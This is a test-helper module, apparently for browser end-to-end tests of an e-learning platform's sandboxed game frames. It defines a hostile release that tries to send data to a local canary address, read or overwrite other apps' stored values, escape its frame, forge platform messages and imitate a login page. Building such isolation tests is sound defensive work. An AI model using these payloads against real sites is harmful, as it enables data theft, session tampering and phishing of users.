import { execFileSync } from 'node:child_process';
import { cpSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import { expect, type Page } from '@playwright/test';
import type { RemoteEntry } from '@venture/contract/remotes';
import { hashOf } from '../list';
import { newFolder, remoteFolder } from './checkout';
import { everyPage } from './container';

/** A server that no release may reach; counts connections. */
export type Canary = {
  readonly address: string;
  /** Requested paths. */
  readonly reached: string[];
  /** Number of connections, with or without a request. */
  readonly connections: () => number;
  readonly close: () => void;
};

export async function canary(): Promise<Canary> {
  const reached: string[] = [];
  let connected = 0;
  const server: Server = createServer((request, response) => {
    reached.push(request.url ?? '');
    response
      .writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' })
      .end('1');
  });
  server.on('connection', () => {
    connected += 1;
  });
  await new Promise<void>((resolve) => {
    server.listen(0, '127.0.0.1', resolve);
  });
  const close = () => {
    server.close();
    server.closeAllConnections();
  };
  const address = `http://127.0.0.1:${Object(server.address()).port}`;
  return { address, reached, connections: () => connected, close };
}

/** A stored value of another remote, which no release may read or change. */
export const SECRET = { key: 'entrepre-puzzle.secret', text: 'of another remote' };

/** Runs in the page, before the release. */
export function plantSecret({ key, text }: typeof SECRET) {
  localStorage.setItem(key, text);
  sessionStorage.setItem(key, text);
}

/** Loads a resource by element; resolves once loaded. */
const load = (tag: string, attributes: string) =>
  `new Promise((yes, no) => document.head.append(Object.assign(document.createElement('${tag}'), { onload: () => yes(true), onloadeddata: () => yes(true), onerror: no, ${attributes} })))`;
const clicked = (attributes: string) =>
  `(document.body.append(Object.assign(document.createElement('a'), { ${attributes}, id: 'lure' })), document.getElementById('lure').click(), document.getElementById('lure').remove(), false)`;
/** Runs code in a worker, which has no more rights than its frame. */
const inWorker = (code: string) =>
  `new Promise((yes, no) => { const worker = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(`Promise.resolve().then(() => ${code}).then(postMessage, () => postMessage(false))`)}]))); worker.onmessage = ({ data }) => yes(data); worker.onerror = no })`;
/** Tries to reach something in a nested frame. */
const nested = (attributes: string, what: string) =>
  `new Promise((yes) => { const inner = Object.assign(document.createElement('iframe'), { ${attributes} }); inner.onload = () => { try { yes(${what}) } catch { yes(false) } }; document.body.append(inner); setTimeout(() => yes(false), 800) })`;

/** How a hostile release reaches people and who opens it: each way and each role once. */
export const REACHED = [
  { way: 'live', role: 'student' },
  { way: 'in a rollout', role: 'instructor' },
  { way: 'in a preview', role: 'admin' },
] as const;

/** The one attempt that works. It is harmless: leaving takes one more step back. */
export const HARMLESS = 'adds a step to the history';

/**
 * A hostile release's attempts: each expression is or resolves to true if the attempt works. CANARY stands for an
 * outside address that sees what is sent.
 */
export const ATTEMPTS: Readonly<Record<string, string>> = {
  'writes a cookie': `(document.cookie = 'mine=1', document.cookie.includes('mine'))`,
  'uses the cookie store': `cookieStore.set('mine', '1').then(() => cookieStore.get('mine'))`,
  'reads a value of another remote': `localStorage.getItem('${SECRET.key}') !== null`,
  'lists values of the platform': `Object.keys(localStorage).some((key) => /^venture\\.(document|visits|browser)/.test(key))`,
  'writes a value of another remote': `(localStorage.setItem('${SECRET.key}', 'mine'), false)`,
  'clears all that is stored': `(localStorage.clear(), sessionStorage.clear(), false)`,
  'logs somebody else in': `(localStorage.setItem('userId', 'mine'), false)`,
  'reads the session storage of the page': `sessionStorage.getItem('${SECRET.key}') !== null`,
  'opens a database': `new Promise((yes, no) => { const open = indexedDB.open('x'); open.onsuccess = () => yes(true); open.onerror = no })`,
  'opens the caches': `caches.open('venture-page').then(() => true)`,
  'asks for stored things of the site': `document.requestStorageAccess().then(() => document.cookie !== '')`,
  'gets a folder of files': `navigator.storage.getDirectory().then(() => true)`,
  'holds a lock of the page': `navigator.locks.request('venture-sync', { ifAvailable: true }, (lock) => lock !== null)`,
  'reads the document around': `Boolean(parent.document.body)`,
  'reads the address around': `top.location.href !== ''`,
  'reads the storage around': `top.localStorage.length >= 0`,
  'reads its own element': `frameElement !== null && frameElement.ownerDocument !== document`,
  'has an opener': `Boolean(opener)`,
  [HARMLESS]: `(history.pushState({}, ''), true)`,
  'calls the platform as the person': `fetch(new URL('/api/v1/me', PAGE)).then((answer) => answer.ok)`,
  fetches: `fetch('CANARY/fetch').then(() => true)`,
  'fetches without asking': `fetch('CANARY/no-cors', { mode: 'no-cors' }).then(() => true)`,
  'sends by XMLHttpRequest': `new Promise((yes, no) => { const x = new XMLHttpRequest(); x.onload = () => yes(true); x.onerror = no; x.open('GET', 'CANARY/xhr'); x.send() })`,
  'opens a socket': `new Promise((yes, no) => { const socket = new WebSocket('CANARY/socket'.replace('http', 'ws')); socket.onopen = () => yes(true); socket.onerror = no })`,
  'opens a stream of events': `new Promise((yes, no) => { const source = new EventSource('CANARY/events'); source.onopen = () => yes(true); source.onerror = no })`,
  'sends a beacon': `(navigator.sendBeacon('CANARY/beacon', 'x'), false)`,
  'opens a transport': `new WebTransport('https://127.0.0.1:1/x').ready.then(() => true)`,
  'connects by WebRTC': `Boolean(new RTCPeerConnection({ iceServers: [] }).createDataChannel('x'))`,
  'loads a picture': load('img', `src: 'CANARY/picture'`),
  'loads a picture by its set': load('img', `srcset: 'CANARY/set 1x'`),
  'loads a film': load('video', `src: 'CANARY/film'`),
  'loads a sound': load('audio', `src: 'CANARY/sound', preload: 'auto'`),
  'loads a style sheet': load('link', `rel: 'stylesheet', href: 'CANARY/style'`),
  'imports a style sheet': `(document.head.append(Object.assign(document.createElement('style'), { textContent: '@import "CANARY/import"; body { background: url(CANARY/background) }' })), false)`,
  'loads a font': `new FontFace('mine', 'url(CANARY/font)').load().then(() => true)`,
  preloads: load('link', `rel: 'preload', as: 'script', href: 'CANARY/preload'`),
  prefetches: load('link', `rel: 'prefetch', href: 'CANARY/prefetch'`),
  'connects before it asks': `(document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: 'CANARY' })), false)`,
  'loads a manifest': `(document.head.append(Object.assign(document.createElement('link'), { rel: 'manifest', href: 'CANARY/manifest' })), false)`,
  'loads an icon': `(document.head.append(Object.assign(document.createElement('link'), { rel: 'icon', href: 'CANARY/icon' })), false)`,
  'loads a script': load('script', `src: 'CANARY/script'`),
  'imports a module': `import('CANARY/module').then(() => true)`,
  'runs a script from a text': load('script', `src: 'data:text/javascript,1'`),
  'runs an inline script': `(document.head.append(Object.assign(document.createElement('script'), { textContent: 'window.inline = true' })), window.inline === true)`,
  'runs an attribute': `(document.body.insertAdjacentHTML('beforeend', '<img src="x:" onerror="window.attribute = true">'), new Promise((yes) => setTimeout(() => yes(window.attribute === true), 300)))`,
  'evaluates a text': `eval('1') === 1`,
  'makes a function of a text': `new Function('return 1')() === 1`,
  'runs a text later': `new Promise((yes) => { setTimeout('window.later = true'); setTimeout(() => yes(window.later === true), 300) })`,
  'embeds an object': load('object', `data: 'CANARY/object'`),
  'embeds a plugin': load('embed', `src: 'CANARY/embed'`),
  'frames a page outside': nested(`src: 'CANARY/inner'`, 'false'),
  'frames a page of the platform': nested(`src: new URL('/', PAGE).href`, `inner.contentDocument !== null`),
  'frames an empty page for its WebRTC': nested(
    `src: 'about:blank'`,
    `Boolean(inner.contentWindow.RTCPeerConnection)`,
  ),
  'frames a written page for its WebRTC': nested(
    `srcdoc: '<p>x</p>'`,
    `Boolean(inner.contentWindow.RTCPeerConnection)`,
  ),
  'frames a script': nested(`srcdoc: '<script>parent.postMessage("ran", "*")</script>'`, 'false'),
  'frames code by an address': nested(`src: 'javascript:parent.postMessage("ran", "*")'`, 'false'),
  'submits a form to a new window': `(() => { const form = Object.assign(document.createElement('form'), { action: 'CANARY/form-window', target: '_blank' }); document.body.append(form); form.submit(); return false })()`,
  'submits a form to the page around': `(document.body.insertAdjacentHTML('beforeend', '<form id="topmost" target="_top" action="CANARY/form-top"></form>'), document.getElementById('topmost').requestSubmit(), false)`,
  'submits a form that runs code': `(document.body.insertAdjacentHTML('beforeend', '<form id="code" action="javascript:postMessage(\\'ran\\')"></form>'), document.getElementById('code').submit(), false)`,
  'opens a window': `Boolean(open('CANARY/window'))`,
  'follows a link to a new window': clicked(`href: 'CANARY/link', target: '_blank'`),
  'follows a link of the whole page': clicked(`href: 'CANARY/top-link', target: '_top'`),
  'navigates the page around': `(top.location = 'CANARY/top', true)`,
  'asks by a dialog of the browser': `confirm('Password?') || prompt('Password?') !== null`,
  'writes to the clipboard': `navigator.clipboard.writeText('mine').then(() => true)`,
  'reads the clipboard': `navigator.clipboard.readText().then(() => true)`,
  notifies: `Notification.requestPermission().then((answer) => answer === 'granted')`,
  'learns where somebody is': `new Promise((yes, no) => navigator.geolocation.getCurrentPosition(() => yes(true), no))`,
  'uses the camera': `navigator.mediaDevices.getUserMedia({ video: true }).then(() => true)`,
  'captures the screen': `navigator.mediaDevices.getDisplayMedia().then(() => true)`,
  'captures the keyboard': `navigator.keyboard.lock().then(() => document.fullscreenElement !== null)`,
  'locks the pointer': `document.body.requestPointerLock().then(() => document.pointerLockElement !== null)`,
  'fills the screen': `document.body.requestFullscreen().then(() => true)`,
  'reads passwords that are kept': `navigator.credentials.get({ password: true }).then(Boolean)`,
  'picks files': `showOpenFilePicker().then(() => true)`,
  'asks for a payment': `new PaymentRequest([{ supportedMethods: 'https://x.example' }], { total: { label: 'x', amount: { currency: 'USD', value: '1' } } }).show().then(() => true)`,
  'leaves a service worker': `navigator.serviceWorker.register(new URL('/service-worker.js', PAGE).href).then(() => true)`,
  'asks a host in a worker': inWorker(`fetch('CANARY/worker').then(() => true)`),
  'connects in a worker': inWorker(
    `new Promise((yes) => { const socket = new WebSocket('CANARY/worker-socket'.replace('http', 'ws')); socket.onopen = () => yes(true); socket.onerror = () => yes(false) })`,
  ),
  'imports a script in a worker': inWorker(`(importScripts('CANARY/worker-script'), true)`),
  'connects by WebRTC in a worker': inWorker(`Boolean(self.RTCPeerConnection)`),
  'reads what is stored in a worker': inWorker(
    `Promise.resolve().then(() => new Promise((yes, no) => Object.assign(indexedDB.open('mine'), { onsuccess: () => yes(true), onerror: no })))`,
  ),
  'starts a worker within a worker to ask a host': inWorker(
    `new Promise((yes) => { const inner = new Worker(URL.createObjectURL(new Blob(["fetch('CANARY/inner-worker').then(() => postMessage(true), () => postMessage(false))"]))); inner.onmessage = ({ data }) => yes(data); inner.onerror = () => yes(false) })`,
  ),
  'starts a shared worker': `new Promise((yes, no) => { const worker = new SharedWorker(URL.createObjectURL(new Blob(['onconnect = ({ ports }) => ports[0].postMessage(1)']))); worker.port.onmessage = () => yes(true); worker.onerror = no; worker.port.start() })`,
  'adds a worklet': `CSS.paintWorklet.addModule('CANARY/worklet').then(() => true)`,
  'talks to all windows of the site': `(new BroadcastChannel('venture').postMessage('mine'), false)`,
  'takes the name of the platform in the title': `(document.title = 'mine', false)`,
};

/** Attempts to navigate the frame away; the platform removes the frame unless the browser refuses first. */
export const LEAVING: Readonly<Record<string, string>> = {
  'navigates elsewhere': `location.href = 'CANARY/self'`,
  'navigates to a page of the platform': `location.href = new URL('/', PAGE).href`,
  'refreshes to elsewhere': `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=CANARY/refresh">')`,
  'rewrites its document': `document.open(), document.write('<form action="CANARY/form"><input type="password" autofocus></form>'), document.close(), document.forms[0].submit()`,
  'submits a form': `const form = Object.assign(document.createElement('form'), { action: 'CANARY/form', method: 'post' }); document.body.append(form); form.submit()`,
  'submits a form by its button': `document.body.insertAdjacentHTML('beforeend', '<form id="sent" method="post"><button formaction="CANARY/button">x</button></form>'); document.querySelector('#sent button').click()`,
  downloads: `${clicked(`href: 'data:text/plain,x', download: 'x.txt'`)}`,
};

/** Well-formed messages about things that are not the release's own; none has an effect. */
export const FORGED: Readonly<Record<string, unknown>> = {
  'a value of another remote': { type: 'save', key: SECRET.key, text: 'mine' },
  'a value of the platform': { type: 'save', key: 'userId', text: 'mine' },
  'a result of another game': {
    type: 'event',
    event: {
      kind: 'run',
      id: '00000000-0000-4000-8000-000000000001',
      at: '2026-01-01T00:00:00.000Z',
      game: 'entrepre-puzzle',
      rules: 1,
      seed: 1,
      score: 500,
      facts: {},
      timing: 'x1',
    },
  },
  'an event that is none': { type: 'event', event: { kind: 'run', id: 'x' } },
  'settings that are none': { type: 'settings', settings: { timing: { evil: true }, sound: 'loud' } },
  'a page of admins': { type: 'navigate', to: '/admin/users', replace: true },
  'a preview': { type: 'navigate', to: '/preview/cash-stack/9.9.9', replace: true },
  'a file of the platform': { type: 'ask', id: 1, question: { what: 'file', address: '/api/v1/me' } },
};

/** Behaviour that ends a frame at once. */
export const BROKEN: Readonly<Record<string, string>> = {
  'sends an unknown message': `say({ type: 'logout' })`,
  'names another address': `say({ type: 'navigate', to: 'https://x.example/', replace: true })`,
  'posts to the window around it': `parent.postMessage('mine', '*')`,
  'sends something other than text': `postMessage.call(ports[0], { type: 'shown' })`,
  'sends too many messages at once': `for (let at = 0; at < 5_000; at += 1) say({ type: 'alive' })`,
  'sends too many events': `for (let at = 0; at < 20; at += 1) say({ type: 'event', event: {} })`,
  'makes too many calls': `for (let id = 0; id < 20; id += 1) say({ type: 'ask', id, question: { what: 'deal', options: {} } })`,
  'sends too large a message': `say({ type: 'save', key: 'cash-stack.x', text: 'x'.repeat(4e5) })`,
  'throws in its page': `say({ type: 'failed', reason: 'mine' })`,
};

const NAME = 'venture_cash_stack_hostile';
export const HOSTILE = { global: NAME, entry: 'js/remoteEntry.js', key: 'cash-stack.report' };

/** Values that a frame may store but a preview may not: its own and the learner's settings. */
export const KEPT = { [HOSTILE.key]: '1', 'venture.settings': '{"timing":"x2","sound":true}' };

/** A hostile release's list entry, replacing a live one; its only file is the container. */
export function hostileRelease({ base, version }: RemoteEntry, source: string) {
  return {
    version: '9.9.9',
    base: base.replace(version, '9.9.9'),
    hasLazyFiles: false,
    global: HOSTILE.global,
    entry: HOSTILE.entry,
    preload: [],
    previous: undefined,
    files: { [HOSTILE.entry]: hashOf(source) },
  };
}

/** Stores a hostile release without making it live; returns its version. The user must be an admin. */
export async function storeHostile({ request }: Pick<Page, 'request'>, source: string): Promise<string> {
  const version = `9.9.9-${Date.now()}`;
  const folder = newFolder('hostile');
  const dist = join(remoteFolder('cash-stack'), 'dist');
  cpSync(dist, folder, { recursive: true });
  const file = join(folder, 'release.json');
  const release = JSON.parse(readFileSync(file, 'utf8')) as RemoteEntry;
  const files = { ...release.files, [HOSTILE.entry]: hashOf(source) };
  writeFileSync(join(folder, HOSTILE.entry), source);
  writeFileSync(file, JSON.stringify({ ...release, version, files, global: NAME, preload: [] }));
  const data = execFileSync('sh', ['-c', 'tar -czf - *'], { cwd: folder });
  const address = `/api/v1/remotes/cash-stack/releases/${version}`;
  const stored = await request.put(address, { data, headers: { 'Content-Type': 'application/gzip' } });
  expect(await stored.json()).toMatchObject({ state: 'stored' });
  return version;
}

/** A release whose page runs this code once shown, with `say` for messages to the platform. */
export const acting = (code: string) => `var ${NAME} = (() => {
  const PAGE = document.baseURI;
  const ports = [];
  const { postMessage } = MessagePort.prototype;
  MessagePort.prototype.postMessage = function (...args) {
    ports.push(this);
    if (String(args[0]).includes('"shown"')) setTimeout(act, 100);
    return postMessage.apply(this, args);
  };
  const act = () => { ${code} };
  localStorage.setItem('cash-stack.first', '1');
  const say = (message) => postMessage.call(ports[0], typeof message === 'string' ? message : JSON.stringify(message));
  const pages = ${everyPage("() => 'Hostile.'")};
  return { init() {}, get: () => Promise.resolve(() => ({ pages })) };
})();`;

/** A harmless page with a form that handles its own submit event. */
export const WITH_FORM = acting(`
  document.body.insertAdjacentHTML('beforeend', '<form><input><button>Send</button></form>');
  const [form] = document.forms;
  form.addEventListener('submit', (event) => {
    event.preventDefault();
    say({ type: 'save', key: 'cash-stack.did', text: '1' });
  });
  form.requestSubmit()`);

/** Tries to navigate the frame away, then reports that it is still there. */
export const leaving = (code: string, { address }: Canary) =>
  acting(
    `try { ${code.replaceAll('CANARY', address)} } finally { say({ type: 'save', key: 'cash-stack.did', text: '1' }) }`,
  );

/** Sends all forged messages, then reports that it did. */
export const FORGING = acting(
  `${Object.values(FORGED)
    .map((message) => `say(${JSON.stringify(message)});`)
    .join(' ')} say({ type: 'save', key: 'cash-stack.did', text: '1' })`,
);

/** Imitates the login page and covers everything that a frame can cover. */
export const IMITATING = acting(`
  const cover = 'position: fixed; inset: 0; width: 100vw; height: 100vh; max-width: none; max-height: none; border: 0';
  document.body.insertAdjacentHTML('beforeend',
    '<dialog id="cover" style="' + cover + '"><h1>Welcome back</h1><input type="password"></dialog><p id="foot" tabindex="0" style="margin-top: 300vh">Foot</p>');
  for (const block of ['start', 'end']) document.getElementById('foot').scrollIntoView({ block });
  document.getElementById('foot').focus();
  document.getElementById('cover').showModal();
  document.getElementById('cover').scrollIntoView({ block: 'start' });
  say({ type: 'modal', isOpen: true })`);

/** A release that makes every attempt and reports successes in its query, since previews store nothing. */
export function hostileEntry({ address }: Canary, page: string, without = /^$/): string {
  const attempts = Object.entries(ATTEMPTS).filter(([name]) => !without.test(name));
  const table = attempts.map(
    ([name, code]) => `${JSON.stringify(name)}: () => (${code.replaceAll('CANARY', address)})`,
  );
  return `var ${NAME} = (() => {
    const PAGE = ${JSON.stringify(page)};
    const heard = [];
    const who = localStorage.getItem('userId');
    addEventListener('message', ({ data }) => heard.push(data));
    const within = (promise) => Promise.race([promise, new Promise((_, no) => setTimeout(no, 8000))]);
    const attempts = { ${table.join(',\n')} };
    async function attack() {
      const worked = [];
      await Promise.all(Object.entries(attempts).map(async ([name, attempt]) => {
        try { if (await within(Promise.resolve().then(attempt))) worked.push(name) } catch {}
      }));
      if (heard.includes('ran')) worked.push('runs code in a frame');
      Object.assign(localStorage, ${JSON.stringify(KEPT)});
      const said = new URLSearchParams({ who, origin: globalThis.origin });
      for (const name of worked.sort().slice(0, 40)) said.append('worked', name);
      document.body.append(Object.assign(document.createElement('a'), { href: '#/cash-stack?' + said, id: 'report' }));
      document.getElementById('report').click();
    }
    const page = () => { if (!globalThis.began) { globalThis.began = true; void attack(); } return 'Hostile.'; };
    return { init() {}, get: () => Promise.resolve(() => ({ pages: ${everyPage('page')} })) };
  })();`;
}

/** Reads the report from the release's query. */
export function reportIn(hash: string) {
  const said = new URLSearchParams(hash.split('?')[1]);
  return { who: said.get('who'), origin: said.get('origin'), worked: said.getAll('worked') };
}
